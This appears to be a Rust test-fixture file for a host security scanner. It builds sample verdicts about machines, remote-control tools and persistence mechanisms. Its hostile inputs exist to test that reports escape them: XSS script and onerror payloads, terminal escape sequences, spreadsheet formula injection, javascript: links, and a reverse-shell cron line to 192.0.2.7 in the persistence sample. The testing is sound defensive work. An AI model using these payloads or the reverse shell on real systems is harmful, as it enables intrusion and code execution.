//! A judgement as the engine makes it, of any number of machines. Names on it are partly hostile,
//! partly Chinese. It is the same on every run.

#![allow(dead_code, reason = "every test file uses its own part")]

use std::sync::Arc;

use leaksweep_facts::{
    Manifest, Time, measure,
    verdict::{
        CheckPage, Doubt, Evidence, Exception, JudgedProblem, JudgedSweep, Judgement, Outcome,
        Picture, Severity, Subject, Value, Verdict,
    },
};

/// What an attacker calls a file: it must never reach a page as markup, nor a terminal as commands.
pub const SCRIPT: &str = "/tmp/<script>document.title='owned'</script>";
pub const IMAGE: &str = "\"><img src=x onerror=document.title='owned'>";
pub const TERMINAL: &str = "\x1b]0;owned\x07\x1b[2J\u{9b}31m\r\ninno\u{202e}fdp.sh";
pub const FORMULA: &str = "=HYPERLINK(\"http://x.invalid\",\"open\")";

pub const NOON: Time = Time(1_796_126_400);
const DAY: i64 = 86_400;

/// No sweep and no check.
pub fn nothing() -> Judgement {
    Judgement {
        tool_version: "0.1.0".into(),
        judged: NOON,
        measures: measure::all(),
        ..Judgement::default()
    }
}

/// This many machines, judged by every sample check.
pub fn machines(count: usize) -> Judgement {
    let checks = checks();
    let mut judgement = nothing();
    for number in 0..count {
        let target: Arc<str> = name(number).into();
        judgement.sweeps.push(sweep(&target, number));
        for check in &checks {
            judgement.verdicts.push(verdict(check, &target, number));
        }
        judgement.problems.extend(problems(&target));
    }
    judgement
}

/// One machine of which nothing could be told.
pub fn all_unknown() -> Judgement {
    let mut judgement = machines(1);
    for verdict in &mut judgement.verdicts {
        verdict.outcome = Outcome::Unknown(vec![Doubt::NotPrivileged]);
        verdict.expired = None;
    }
    judgement
}

/// One machine in a container: the sweep had all rights and was refused.
pub fn contained() -> Judgement {
    let mut judgement = machines(1);
    judgement.sweeps[0].manifest.privileged = true;
    for verdict in &mut judgement.verdicts {
        if let Outcome::Unknown(_) = verdict.outcome {
            verdict.outcome = Outcome::Unknown(vec![denied(1)]);
        }
    }
    judgement
}

/// One machine on which nothing is wrong.
pub fn all_pass() -> Judgement {
    let mut judgement = machines(1);
    judgement.problems.clear();
    for verdict in &mut judgement.verdicts {
        verdict.outcome = Outcome::Pass;
        verdict.expired = None;
    }
    judgement
}

pub fn name(number: usize) -> String {
    match number {
        0 => "lab-07".into(),
        1 => "保密机房-02".into(),
        2 => "evil\x1b[31m<b>".into(),
        _ => format!("office-{number:04}"),
    }
}

fn sweep(target: &str, number: usize) -> JudgedSweep {
    let manifest = Manifest {
        format: 1,
        tool_version: "0.1.0".into(),
        sensor: "host".into(),
        target: target.into(),
        machine_id: Some(format!("{number:064x}")),
        platform: Some("linux".into()),
        started: Time(NOON.0 - 3600 + number as i64),
        ended: Time(NOON.0 - 3599 + number as i64),
        privileged: number % 2 == 1,
        live: true,
        extent: Default::default(),
        parts: Vec::new(),
    };
    let zone = if number == 1 { "sealed" } else { "office" };
    JudgedSweep { manifest, target: target.into(), zone: zone.into() }
}

fn check(id: &str, title: &str, severity: Severity, measures: &[&str]) -> CheckPage {
    CheckPage {
        id: format!("host/{id}"),
        title: title.into(),
        severity,
        measures: measures.iter().map(|id| id.to_string()).collect(),
        attack: Vec::new(),
        what: format!("{title}. It asks the tables of the *host* sensor."),
        why: "Whoever can use it reads what the machine holds.".into(),
        fix: "Remove it, or name it in the policy. Then sweep again.".into(),
        limits: "A program that hides from the kernel is not seen.".into(),
        references: vec!["https://attack.mitre.org/".into()],
    }
}

pub fn checks() -> Vec<Arc<CheckPage>> {
    use Severity::*;
    let mut checks = vec![
        check("deleted-program", "A program runs from a deleted file", High, &["R1", "D6"]),
        check("open-listener", "A program listens on every address", Medium, &["D4"]),
        check(
            "standing-access",
            "A remote-control tool lets someone in with nobody present",
            Critical,
            &["R4", "R1", "R7"],
        ),
        check("second-root", "A second account has the rights of root", High, &["R4"]),
        check("no-updates", "No update was installed in 60 days", Low, &["D8"]),
        check("old-telnet", "Telnet can be reached from outside", High, &["R2"]),
        check("foreign-unit", "A user can change a unit that runs as root", Critical, &["R4"]),
        check("snap-source", "A snap comes from a source that nobody named", Info, &["D5"]),
        check("changeable-unit", "A program of a unit can be changed by a user", High, &["D9"]),
        check("memory-program", "A program runs that never was a file", High, &["D6"]),
        check("loose-mount", "A place for all lets programs gain rights", Low, &["D9"]),
        check("camera", "A program holds the camera", Medium, &["D2"]),
    ];
    let n = checks.len();
    checks.extend((n..40).map(quiet_check));
    write_pages(&mut checks);
    checks.into_iter().map(Arc::new).collect()
}

fn quiet_check(number: usize) -> CheckPage {
    check(&format!("quiet-{number:02}"), "Something is not as it should be", Severity::Low, &["D9"])
}

fn write_pages(checks: &mut [CheckPage]) {
    checks[0].attack = vec!["T1070.004".into()];
    checks[0].fix = "Find out who started it, with `ps -o lstart,cmd -p PID`. Then stop it:\n\n\
         ```sh\nkill PID\n```\n\n- keep the memory first, if it may be evidence\n- reinstall"
        .into();
    checks[2].attack = vec!["T1219.002".into(), "T1133".into()];
    checks[2].why = "RustDesk, AnyDesk and the like can be given a permanent password. Whoever \
         learns it comes in at any hour, <b>unseen</b>."
        .into();
    checks[3].title = "另一个账户拥有 root 权限 (a second account has uid 0)".into();
    checks[3].fix = "删除该账户，或者给它一个自己的编号。然后重新扫描。".into();
}

fn text(text: &str) -> Value {
    Value::Text(text.into())
}

fn evidence(columns: &[&str], rows: Vec<Vec<Value>>) -> Evidence {
    let columns = columns.iter().map(|name| name.to_string()).collect();
    Evidence { columns, total: rows.len(), rows }
}

fn verdict(check: &Arc<CheckPage>, target: &Arc<str>, number: usize) -> Verdict {
    let (outcome, expired) = outcome(&check.id, number);
    Verdict { check: check.clone(), target: target.clone(), outcome, expired }
}

fn outcome(id: &str, number: usize) -> (Outcome, Option<Arc<Exception>>) {
    let known = number % 2 == 1;
    let outcome = match id.trim_start_matches("host/") {
        "deleted-program" => Outcome::Fail(deleted_programs()),
        "open-listener" => Outcome::Fail(listeners(number)),
        "standing-access" => return (Outcome::Fail(tools(number)), Some(exception(-30))),
        "second-root" if known || number == 0 => Outcome::Fail(accounts()),
        "no-updates" => Outcome::Excepted(updates(), exception(40)),
        "old-telnet" if !known => Outcome::Unknown(vec![Doubt::NotPrivileged]),
        "foreign-unit" if !known => Outcome::Unknown(vec![denied(3)]),
        "changeable-unit" => Outcome::Fail(units()),
        "memory-program" if number == 0 => Outcome::Fail(memory_programs()),
        "loose-mount" => Outcome::Fail(mounts()),
        "snap-source" => Outcome::NotApplicable,
        "camera" => Outcome::Unknown(vec![Doubt::NotObserved { table: "host_devices".into() }]),
        "quiet-13" => Outcome::Unknown(vec![malformed()]),
        _ => Outcome::Pass,
    };
    (outcome, None)
}

fn deleted_programs() -> Evidence {
    let columns = ["pid", "program", "user", "started", "arguments"];
    let row = |pid: i64, program: &str, arguments: &str| {
        let started = Value::Time(Time(NOON.0 - pid * 60));
        vec![Value::Int(pid), text(program), text("root"), started, text(arguments)]
    };
    let rows = vec![
        row(812, SCRIPT, IMAGE),
        row(901, TERMINAL, FORMULA),
        row(4711, "/home/张伟/远程控制软件/rustdesk", "--service --密码"),
        row(5000, "/usr/lib/a/very/long/path/that/does/not/fit/in/any/terminal/agent", ""),
        vec![Value::Int(5001), Value::Null, Value::Null, Value::Null, Value::Bool(true)],
        row(5002, "/usr/bin/e\u{301}te\u{301}", "@SUM(1+1)"),
        row(5003, "/usr/bin/x", "-1+1"),
    ];
    Evidence { total: 4321, ..evidence(&columns, rows) }
}

fn listeners(number: usize) -> Evidence {
    let columns = ["protocol", "address", "port", "program"];
    let row = |port: i64, program: &str| {
        vec![text("tcp"), text("0.0.0.0"), Value::Int(port), text(program)]
    };
    let mut rows =
        vec![row(22, "/usr/sbin/sshd"), row(5900 + number as i64 % 7, "/usr/bin/x11vnc")];
    rows.truncate(1 + number % 2);
    evidence(&columns, rows)
}

fn tools(number: usize) -> Evidence {
    let path = format!("/home/user{number}/.config/rustdesk/RustDesk.toml");
    let since = Value::Time(Time(NOON.0 - DAY * 100 + 43_200));
    evidence(&["tool", "path", "since"], vec![vec![text("rustdesk"), text(&path), since]])
}

fn units() -> Evidence {
    let columns = ["unit", "path", "program", "user", "changeable_by", "enabled"];
    let row = |name: &str, program: &str| {
        let path = format!("/usr/lib/systemd/system/{name}");
        let cells = [name, &path, program, "root", "group staff"];
        cells.map(text).into_iter().chain([Value::Bool(true)]).collect()
    };
    let rows = vec![
        row("apt-daily.service", "/usr/lib/apt/apt.systemd.daily"),
        row("apt-daily-upgrade.service", "/usr/lib/apt/apt.systemd.daily"),
        row("dpkg-db-backup.service", "/usr/libexec/dpkg/dpkg-db-backup"),
        row("fstrim.service", "/usr/sbin/fstrim"),
    ];
    evidence(&columns, rows)
}

/// Arguments of a length that no table holds.
fn memory_programs() -> Evidence {
    let columns = ["name", "user", "pid", "arguments", "started"];
    let row = |pid: i64| {
        let arguments = format!(
            "/opt/agent/bin/worker --socket /run/agent/{pid}.sock {}",
            "--quiet ".repeat(40)
        );
        let started = Value::Time(Time(NOON.0 - pid));
        vec![text("memfd:loader"), text("root"), Value::Int(pid), text(&arguments), started]
    };
    evidence(&columns, vec![row(967), row(4897)])
}

/// Two of three look the same.
fn mounts() -> Evidence {
    let columns = ["path", "source", "file_system", "allows_set_uid", "allows_devices"];
    let row = |path: &str| {
        let flags = [Value::Bool(true), Value::Bool(true)];
        [path, "tmpfs", "tmpfs"].map(text).into_iter().chain(flags).collect()
    };
    evidence(&columns, vec![row("/dev/shm"), row("/dev/shm"), row("/tmp")])
}

fn accounts() -> Evidence {
    evidence(&["name", "uid"], vec![vec![text("超级用户"), Value::Int(0)]])
}

fn updates() -> Evidence {
    evidence(&["last_update"], vec![vec![Value::Time(Time(NOON.0 - DAY * 90))]])
}

fn exception(days: i64) -> Arc<Exception> {
    let (check, reason) = match days {
        ..0 => ("host/standing-access", "night shift <i>needs</i> it"),
        _ => ("host/no-updates", "frozen for a measurement"),
    };
    Arc::new(Exception {
        check: check.into(),
        target: "*".into(),
        owner: "Zhang Wei 张伟".into(),
        reason: reason.into(),
        until: Time(NOON.0 + days * DAY),
    })
}

fn denied(count: usize) -> Doubt {
    Doubt::Problem {
        table: "host_services".into(),
        subject: "/root/.config/systemd".into(),
        reason: "denied".into(),
        hint: "run as root".into(),
        count,
    }
}

fn malformed() -> Doubt {
    Doubt::Problem {
        table: "host_packages".into(),
        subject: format!("/var/lib/dpkg/{TERMINAL}"),
        reason: "malformed".into(),
        hint: String::new(),
        count: 1,
    }
}

fn problems(target: &Arc<str>) -> Vec<JudgedProblem> {
    let problem = |table: &str, subject: &str, reason: &str, hint: &str| JudgedProblem {
        target: target.clone(),
        sensor: "host".into(),
        table: table.into(),
        subject: subject.into(),
        reason: reason.into(),
        detail: "the reader gave up".into(),
        hint: hint.into(),
    };
    vec![
        problem("host_services", "/root/.config/systemd", "denied", "run as root"),
        problem("host_packages", TERMINAL, "malformed", ""),
        problem("host_processes", SCRIPT, "vanished", ""),
    ]
}

/// Machines with remote-control tools: the first has one of every kind, every third none, every
/// seventh could not be looked at.
pub fn remote(count: usize) -> Judgement {
    let mut judgement = machines(count);
    judgement.pictures = (0..count).map(picture).collect();
    judgement
}

fn picture(number: usize) -> Picture {
    let rows = match number {
        0 => every_access(),
        _ if number % 3 == 2 || number % 7 == 6 => Vec::new(),
        1 => vec![chinese_tool()],
        _ => every_access().split_off(number % 6),
    };
    let doubts = if number % 7 == 6 { vec![not_looked()] } else { Vec::new() };
    remote_picture(&name(number), rows, doubts)
}

pub fn remote_picture(target: &str, rows: Vec<Vec<Value>>, doubts: Vec<Doubt>) -> Picture {
    let rows = evidence(&TOOL_COLUMNS, rows);
    Picture { subject: Subject::RemoteControl, target: target.into(), rows, doubts }
}

/// One machine with ways in of every lane, tone and age.
pub fn standing() -> Judgement {
    let pictures = vec![standing_picture("lab-07", every_way(), Vec::new())];
    Judgement { pictures, ..machines(1) }
}

pub fn standing_picture(target: &str, rows: Vec<Vec<Value>>, doubts: Vec<Doubt>) -> Picture {
    let columns = ["lane", "tone", "since", "what", "user", "path", "line", "ended"];
    let rows = evidence(&columns, rows);
    Picture { subject: Subject::StandingAccess, target: target.into(), rows, doubts }
}

/// A way that appeared so many days before the sweep; none where nothing says when.
pub fn way(lane: &str, tone: &str, days: Option<i64>, what: &str, place: &str) -> Vec<Value> {
    let since = days.map_or(Value::Null, |days| Value::Time(Time(NOON.0 - days * DAY)));
    let (path, line) = place.split_once(':').unwrap_or((place, ""));
    let line = line.parse().map_or(Value::Null, Value::Int);
    let words = [text(what), text("mira"), text(path), line, Value::Time(NOON)];
    [text(lane), text(tone), since].into_iter().chain(words).collect()
}

fn every_way() -> Vec<Vec<Value>> {
    vec![
        way("keys", "look", Some(3), "key backup@nas ssh-rsa", "/root/.ssh/authorized_keys:4"),
        way("rights", "alarm", Some(3), "sudo as ALL ALL", "/etc/sudoers.d/90-x:1"),
        way("starts", "alarm", Some(0), "cron sh -i >& /dev/tcp/192.0.2.7/4444", "/etc/cron.d/x:2"),
        way(
            "starts",
            "usual",
            Some(400),
            "backup.service /opt/backup/run",
            "/etc/systemd/system/backup.service",
        ),
        way("programs", "alarm", Some(2000), "set-uid", "/usr/local/bin/报表工具"),
        way("boot", "look", None, "member etc/init.d/x", "/boot/initrd.img-6.1"),
        way("accounts", "usual", Some(800), "account mira", "/etc/passwd"),
    ]
}

pub fn not_looked() -> Doubt {
    Doubt::NotObserved { table: "host_remote_tools".into() }
}

/// As the engine asks for them.
const TOOL_COLUMNS: [&str; 15] = [
    "tool",
    "name",
    "kind",
    "maker",
    "access",
    "states",
    "confidence",
    "version",
    "unattended_by",
    "way",
    "ways_in",
    "users",
    "renamed",
    "since",
    "sanction",
];

pub fn tool(cells: [&str; 13], renamed: bool, since: Value) -> Vec<Value> {
    let [head @ .., sanction] = cells;
    let cells = head.map(|cell| if cell == "-" { Value::Null } else { text(cell) });
    cells.into_iter().chain([Value::Bool(renamed), since, text(sanction)]).collect()
}

#[rustfmt::skip]
fn every_access() -> Vec<Vec<Value>> {
    let ago = |days: i64| Value::Time(Time(NOON.0 - days * DAY));
    vec![
        tool(["rustdesk", "RustDesk", "remote-control", "Purslane Ltd", "open", "installed, running, starts, listening, connected", "certain", "1.2.3", "permanent-password in /root/.config/rustdesk/RustDesk.toml", "relay", "relay rs-ny.rustdesk.com; tcp/21118 on every address", "root mira", "none"], false, ago(120)),
        tool(["x11vnc", "x11vnc", "remote-control", "", "open", "installed, running, listening", "certain", "0.9.16", "no-password on the command line", "listener", "listens on tcp/5900 on every address", "root", "attended"], true, ago(2)),
        tool(["gnome-remote-desktop", "GNOME Remote Desktop", "remote-control", "GNOME", "unclear", "installed, running, starts", "likely", "46.1", "-", "listener", "listens on tcp/3389 on every address", "mira", "none"], false, Value::Null),
        tool(["tailscale", "Tailscale", "mesh", "Tailscale Inc.", "asks", "installed, running, connected", "certain", "1.64", "-", "mesh", "mesh 100.64.0.7", "root", "unattended"], false, ago(30)),
        tool(["frp", "frp", "tunnel", "fatedier", "local", "running, portable", "likely", "-", "exposed", "reverse", "-", "mira", "forbidden"], false, ago(1)),
        tool(["anydesk", "AnyDesk", "remote-control", "AnyDesk Software GmbH", "idle", "portable", "possible", "-", "-", "relay", "relay *.net.anydesk.com", "mira", "none"], false, ago(400)),
        tool(["krfb", "Krfb", "remote-control", "KDE", "dormant", "installed", "certain", "23.08", "-", "unknown", "-", "", "none"], false, Value::Null),
        tool(["teamviewer", "TeamViewer", "remote-control", "TeamViewer Germany GmbH", "traces", "left over", "certain", "-", "-", "unknown", "-", "mira", "none"], false, ago(700)),
    ]
}

fn chinese_tool() -> Vec<Value> {
    let cells = [
        "todesk",
        "ToDesk 远程控制软件",
        "remote-control",
        "海南有趣科技有限公司",
        "open",
        "installed, running, starts, connected",
        "certain",
        "4.7.2.0",
        "permanent-password",
        "relay",
        "relay 中继服务器.todesk.com",
        "张伟",
        "forbidden",
    ];
    tool(cells, false, Value::Time(NOON))
}

/// Hostile text in every field that a sweep, a policy or a check of a user fills.
pub fn hostile_everywhere() -> Judgement {
    let mut judgement = remote(7);
    judgement.pictures.extend(standing().pictures);
    let hostile = format!("{TERMINAL}{SCRIPT}{IMAGE}{FORMULA}");
    judgement.tool_version = hostile.clone();
    for sweep in &mut judgement.sweeps {
        sweep.zone = hostile.clone();
        sweep.target = hostile.as_str().into();
        sweep.manifest.target = hostile.clone();
        sweep.manifest.sensor = hostile.clone();
        sweep.manifest.machine_id = Some(hostile.clone());
    }
    for verdict in &mut judgement.verdicts {
        verdict.target = hostile.as_str().into();
        verdict.check = hostile_page(&verdict.check, &hostile).into();
        verdict.outcome = hostile_outcome(&verdict.outcome, &hostile);
    }
    for picture in &mut judgement.pictures {
        hostile_picture(picture, &hostile);
    }
    for problem in &mut judgement.problems {
        problem.table = hostile.clone();
        problem.detail = hostile.clone();
        problem.hint = hostile.clone();
    }
    judgement
}

/// What decides how a lane is drawn stays, so that every kind of lane carries the rest.
fn hostile_picture(picture: &mut Picture, hostile: &str) {
    picture.target = hostile.into();
    let columns = picture.rows.columns.clone();
    for row in &mut picture.rows.rows {
        for (column, cell) in columns.iter().zip(row) {
            *cell = match (column.as_str(), &cell) {
                ("access" | "way" | "since" | "renamed" | "tone" | "line" | "ended", _) => continue,
                ("states", _) => text(&format!("{hostile}, {hostile}")),
                ("ways_in", _) => text(&format!("relay {hostile}; {hostile}")),
                _ => text(hostile),
            };
        }
    }
    if let Some(doubt) = picture.doubts.first_mut() {
        *doubt = Doubt::NotObserved { table: hostile.into() };
    }
}

fn hostile_page(check: &CheckPage, hostile: &str) -> CheckPage {
    let list = vec![hostile.to_owned(), hostile.to_owned()];
    CheckPage {
        id: format!("{}{hostile}", check.id),
        title: hostile.into(),
        severity: check.severity,
        measures: list.clone(),
        attack: list.clone(),
        what: hostile.into(),
        why: format!("<script>{hostile}\n\n[x](javascript:alert(1))"),
        fix: hostile.into(),
        limits: hostile.into(),
        references: vec![format!("https://{hostile}"), "javascript:alert(1)".into()],
    }
}

fn hostile_outcome(outcome: &Outcome, hostile: &str) -> Outcome {
    match outcome {
        Outcome::Fail(evidence) => {
            let columns = evidence.columns.iter().map(|_| hostile.to_owned()).collect();
            Outcome::Fail(Evidence { columns, ..evidence.clone() })
        }
        Outcome::Unknown(_) => Outcome::Unknown(vec![Doubt::Problem {
            table: hostile.into(),
            subject: hostile.into(),
            reason: hostile.into(),
            hint: hostile.into(),
            count: 2,
        }]),
        Outcome::Excepted(evidence, exception) => {
            let text = || hostile.to_owned();
            let until = exception.until;
            let exception =
                Exception { check: text(), target: text(), owner: text(), reason: text(), until };
            Outcome::Excepted(evidence.clone(), exception.into())
        }
        other => other.clone(),
    }
}
